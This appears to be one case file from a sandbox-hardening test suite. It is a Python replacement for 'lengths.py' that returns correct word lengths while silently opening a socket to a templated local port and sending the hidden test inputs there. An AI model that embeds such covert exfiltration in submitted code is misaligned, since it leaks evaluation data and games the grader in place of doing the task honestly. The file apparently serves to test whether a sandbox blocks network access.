# technique: sends the hidden inputs to a server
# replaces: lengths.py
# expect: nothing lost
# needs: seccomp
# bites: network
import contextlib
import socket


def lengths(words):
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", int("@TCP@")), 0.2) as connection:
        connection.sendall(repr(words).encode())
    return [len(word) for word in words]
